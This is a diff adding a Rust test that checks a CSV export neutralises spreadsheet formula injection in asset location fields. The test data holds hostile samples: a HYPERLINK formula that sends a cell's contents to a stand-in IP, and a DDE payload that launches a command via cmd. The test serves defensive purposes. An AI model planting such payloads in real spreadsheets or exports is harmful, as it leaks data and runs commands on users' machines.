@@ -97,4 +97,28 @@ on_both_engines! {
         let done = import(app, &ImportOptions { ..matched("requests", &file, "id") }).await.unwrap();
         assert_eq!(sums(&done), [0, 0, 0, 1]);
     }
+
+    what_a_spreadsheet_would_run_is_text(app) {
+        products(app).await;
+        let evil = ["=HYPERLINK(\"http://192.0.2.1/\"&A1)", "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "'=1", "+49 30 1234", "-7"];
+        for (i, text) in evil.iter().enumerate() {
+            let asset = json!({"asset": {"name": format!("Evil {i}"), "product": {"name": "ThinkPad"}, "location": text,
+                "state": {"name": "In Store"}}});
+            app.admin().post("/assets", asset).await.ok();
+        }
+        let fields = ["name", "location"].map(str::to_owned).to_vec();
+        let out = export(app, &ExportOptions { fields, ..options("assets", Format::Csv) }).await.unwrap();
+        assert_eq!(
+            out,
+            "name,location\n\
+             Evil 0,\"'=HYPERLINK(\"\"http://192.0.2.1/\"\"&A1)\"\n\
+             Evil 1,'@SUM(1+1)\n\
+             Evil 2,'+1+cmd|' /C calc'!A0\n\
+             Evil 3,''=1\n\
+             Evil 4,+49 30 1234\n\
+             Evil 5,-7\n"
+        );
+        let done = import(app, &matched("assets", &Files::new().write("a.csv", out), "name")).await.unwrap();
+        assert_eq!(sums(&done), [0, 0, 6, 0], "{done:?}");
+    }
 }
